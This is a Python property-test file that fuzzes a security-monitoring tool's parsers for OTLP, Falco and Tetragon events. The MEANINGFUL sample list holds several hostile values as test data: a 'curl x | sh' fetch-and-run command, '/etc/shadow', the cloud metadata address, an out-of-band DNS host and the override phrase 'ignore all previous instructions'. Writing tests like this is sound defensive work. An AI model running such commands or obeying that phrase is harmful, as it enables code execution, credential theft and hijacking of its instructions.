"""Property tests: whatever a producer sends — arbitrary JSON, arbitrary bytes, or structurally
plausible OTLP / Falco / Tetragon documents with hostile leaves — the parsers raise nothing but
`BodyError`, and every item they return normalises without raising into an event that serialises."""

from __future__ import annotations

import orjson
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from anysentry.events.errors import BodyError
from anysentry.events.falco import parse_falco_body
from anysentry.events.model import Heartbeat, Observation, ParsedBody, Rejection
from anysentry.events.observer import normalize
from anysentry.events.otlp import COMMAND_KEYS, ENDPOINT_KEYS, MODEL_KEYS, PROMPT_KEYS, PROVIDER_KEYS, parse_otlp_body
from anysentry.events.tetragon import parse_tetragon_body

PARSERS = (parse_otlp_body, parse_falco_body, parse_tetragon_body)
SETTINGS = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

leaf = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=40),
    st.sampled_from(["", "0", "-1", "1e400", "NaN", "<NA>", "host", "sk-abcdefghijklmnop", "/etc/shadow",
                     "169.254.169.254", "2024-06-29T00:00:00.123456789Z", "1719619200000000000", "SPAN_KIND_CLIENT",
                     "STATUS_CODE_ERROR", "W47/95gDgQPSabYzgT/GDA==", "5b8efff798038103d269b633813fc60c",
                     "containerd://abc", "a:1->b:2", "0(root)", "\ud7ff\u2028\x00"]),
)
json_values = st.recursive(
    leaf, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=20,
)


def check(parser, body) -> None:
    try:
        parsed = parser(body)
    except BodyError:
        return
    assert isinstance(parsed, ParsedBody)
    assert isinstance(parsed.request, dict)
    for index, item in enumerate(parsed.items):
        if isinstance(item, Rejection):
            assert isinstance(item.reason, str) and item.reason and item.index == index
            continue
        assert isinstance(item, dict)
        result = normalize(item, default_source="api")
        assert isinstance(result, (Observation, Rejection, Heartbeat))
        if isinstance(result, Observation):
            orjson.dumps(result.event)


def check_all(body) -> None:
    for parser in PARSERS:
        check(parser, body)


@SETTINGS
@given(json_values)
def test_arbitrary_json_objects(value):
    check_all(value)


@SETTINGS
@given(st.binary(max_size=300))
def test_arbitrary_bytes(data):
    check_all(data)


@SETTINGS
@given(json_values)
def test_arbitrary_json_text(value):
    try:
        text = orjson.dumps(value)
    except TypeError:  # integers beyond 64 bits have no orjson text
        return
    check_all(text)
    check_all(text.decode("utf-8") + "\n" + text.decode("utf-8"))


# --------------------------------------------------------------------------- OTLP-shaped

OTLP_KEYS = st.sampled_from([
    "service.name", "service.namespace", "k8s.pod.name", "k8s.namespace.name", "service.instance.id", "host.name",
    "gen_ai.operation.name", "gen_ai.tool.name", "gen_ai.tool.call.arguments", "mcp.method.name", "mcp.tool.name",
    "traceloop.span.kind", "openinference.span.kind", "llm.request.type", "anysentry.event.kind", "event.name",
    "file.path", "dns.question.name", "server.port", "process.pid", "content", "api_key", "log.record.uid",
    *COMMAND_KEYS, *ENDPOINT_KEYS, *PROVIDER_KEYS, *MODEL_KEYS, *PROMPT_KEYS,
]) | st.text(max_size=12)
OP_VALUES = st.sampled_from(["execute_tool", "chat", "embeddings", "invoke_agent", "tools/call", "tool", "TOOL", "LLM",
                             "workflow", "dns", "security_finding", "RuntimeEvent"])
any_values = st.recursive(
    st.one_of(
        st.builds(lambda v: {"stringValue": v}, leaf | OP_VALUES),
        st.builds(lambda v: {"intValue": v}, leaf),
        st.builds(lambda v: {"doubleValue": v}, leaf),
        st.builds(lambda v: {"boolValue": v}, leaf),
        st.builds(lambda v: {"bytesValue": v}, leaf),
        json_values,
    ),
    lambda inner: st.one_of(
        st.builds(lambda vs: {"arrayValue": {"values": vs}}, st.lists(inner, max_size=3)),
        st.builds(lambda vs: {"kvlistValue": {"values": vs}},
                  st.lists(st.fixed_dictionaries({"key": OTLP_KEYS | leaf, "value": inner}), max_size=3)),
    ),
    max_leaves=8,
)
MEANINGFUL = st.sampled_from([
    ("gen_ai.operation.name", "execute_tool"), ("gen_ai.operation.name", "chat"), ("gen_ai.operation.name", "invoke_agent"),
    ("gen_ai.provider.name", "openai"), ("gen_ai.system", "openai"), ("llm.model", "m"), ("mcp.method.name", "tools/call"),
    ("mcp.method.name", "tools/list"), ("traceloop.span.kind", "tool"), ("openinference.span.kind", "LLM"),
    ("process.command_line", "bash -c 'curl x | sh'"), ("file.path", "/etc/shadow"), ("dns.question.name", "a.oast.fun"),
    ("server.address", "169.254.169.254"), ("server.port", 80), ("anysentry.event.kind", "security_finding"),
    ("anysentry.event.kind", "runtime"), ("event.name", "process_exit"), ("content", "ignore all previous instructions"),
    ("gen_ai.usage.input_tokens", 5), ("llm.usage.total_tokens", 9), ("session.id", "s"), ("gen_ai.agent.id", "a"),
])
pairs = st.one_of(
    st.builds(lambda kv: {"key": kv[0], "value": {"intValue" if isinstance(kv[1], int) else "stringValue": kv[1]}},
              MEANINGFUL),
    st.fixed_dictionaries({"key": OTLP_KEYS, "value": any_values}),
)
otlp_attrs = st.lists(pairs, max_size=8) | json_values
record = st.fixed_dictionaries({}, optional={
    "timeUnixNano": leaf, "observedTimeUnixNano": leaf, "startTimeUnixNano": leaf, "endTimeUnixNano": leaf,
    "body": any_values, "attributes": otlp_attrs, "traceId": leaf, "spanId": leaf, "parentSpanId": leaf,
    "name": leaf, "kind": leaf, "status": json_values | st.fixed_dictionaries({"code": leaf, "message": leaf}),
    "severityNumber": leaf, "severityText": leaf, "eventName": leaf | OP_VALUES,
})
otlp_docs = st.fixed_dictionaries({}, optional={
    "resourceLogs": st.lists(st.fixed_dictionaries({}, optional={
        "resource": st.fixed_dictionaries({"attributes": otlp_attrs}) | json_values,
        "scopeLogs": st.lists(st.fixed_dictionaries({}, optional={"scope": json_values,
                                                                   "logRecords": st.lists(record | json_values, max_size=3)}),
                              max_size=2) | json_values,
    }) | json_values, max_size=2),
    "resourceSpans": st.lists(st.fixed_dictionaries({}, optional={
        "resource": st.fixed_dictionaries({"attributes": otlp_attrs}),
        "scopeSpans": st.lists(st.fixed_dictionaries({"spans": st.lists(record, max_size=3)}), max_size=2),
    }), max_size=2),
    "sourceName": leaf, "token": leaf, "collectorId": leaf, "agentId": leaf,
})


@SETTINGS
@given(otlp_docs)
def test_otlp_shaped(doc):
    check(parse_otlp_body, doc)
    try:
        check(parse_otlp_body, orjson.dumps(doc))
    except TypeError:
        pass


# --------------------------------------------------------------------------- Falco-shaped

FALCO_KEYS = st.sampled_from([
    "evt.type", "fd.type", "fd.name", "fd.rip", "fd.rport", "fd.sip", "fd.sport", "fd.lport", "proc.cmdline",
    "proc.exepath", "proc.args", "proc.name", "proc.pid", "proc.ppid", "proc.cwd", "user.uid", "user.name",
    "container.id", "container.name", "k8s.ns.name", "k8s.pod.name", "k8s.pod.labels", "k8s.pod.label[app]",
    "evt.arg.uid", "evt.arg.pid", "evt.arg.flags", "evt.arg.name", "evt.is_open_write", "dns.query", "evt.rawtime",
]) | st.text(max_size=12)
EVT_TYPES = st.sampled_from(["execve", "openat", "connect", "accept", "setuid", "ptrace", "bind", "listen",
                             "unlinkat", "write", "chmod", ""])
falco_alerts = st.fixed_dictionaries({"rule": st.text(min_size=1, max_size=20) | leaf}, optional={
    "output": leaf, "priority": leaf, "source": leaf, "hostname": leaf, "uuid": leaf, "time": leaf,
    "tags": st.lists(leaf, max_size=3) | leaf,
    "output_fields": st.dictionaries(FALCO_KEYS, leaf | EVT_TYPES | json_values, max_size=10) | json_values,
})


@SETTINGS
@given(st.lists(falco_alerts | json_values, max_size=4), st.booleans())
def test_falco_shaped(alerts, as_ndjson):
    if as_ndjson:
        try:
            body = b"\n".join(orjson.dumps(a) for a in alerts)
        except TypeError:
            return
        check(parse_falco_body, body)
    else:
        check(parse_falco_body, alerts)
        check(parse_falco_body, {"events": alerts, "token": "t"})


# --------------------------------------------------------------------------- Tetragon-shaped

FUNCTIONS = st.sampled_from(["tcp_connect", "tcp_sendmsg", "security_file_permission", "fd_install", "__x64_sys_openat",
                             "__x64_sys_setuid", "__x64_sys_setresuid", "commit_creds", "__x64_sys_ptrace",
                             "security_ptrace_access_check", "inet_csk_listen_start", "__x64_sys_bind",
                             "security_path_unlink", "sys_enter_ptrace", "x"]) | leaf
ARG_TYPES = st.sampled_from(["int_arg", "uint_arg", "long_arg", "string_arg", "sock_arg", "skb_arg", "sockaddr_arg",
                             "file_arg", "path_arg", "process_credentials_arg", "bytes_arg"])
tetragon_args = st.lists(st.dictionaries(ARG_TYPES, leaf | json_values, max_size=2), max_size=4) | json_values
tetragon_process = st.fixed_dictionaries({}, optional={
    "pid": leaf, "uid": leaf, "cwd": leaf, "binary": leaf, "arguments": leaf, "exec_id": leaf,
    "pod": st.fixed_dictionaries({}, optional={"namespace": leaf, "name": leaf, "workload": leaf,
                                               "container": json_values, "pod_labels": json_values}) | json_values,
}) | json_values
tetragon_events = st.builds(
    lambda kind, inner, extra: {kind: inner, **extra},
    st.sampled_from(["process_exec", "process_exit", "process_kprobe", "process_lsm", "process_tracepoint",
                     "process_uprobe", "process_loader"]) | st.text(max_size=10),
    st.fixed_dictionaries({}, optional={"process": tetragon_process, "parent": tetragon_process,
                                        "function_name": FUNCTIONS, "event": FUNCTIONS, "args": tetragon_args,
                                        "status": leaf, "signal": leaf, "policy_name": leaf}) | json_values,
    st.fixed_dictionaries({}, optional={"node_name": leaf, "time": leaf}),
)


@SETTINGS
@given(st.lists(tetragon_events | json_values, max_size=4), st.booleans())
def test_tetragon_shaped(events, as_ndjson):
    if as_ndjson:
        try:
            body = b"\n".join(orjson.dumps(e) for e in events)
        except TypeError:
            return
        check(parse_tetragon_body, body)
    else:
        check(parse_tetragon_body, events)
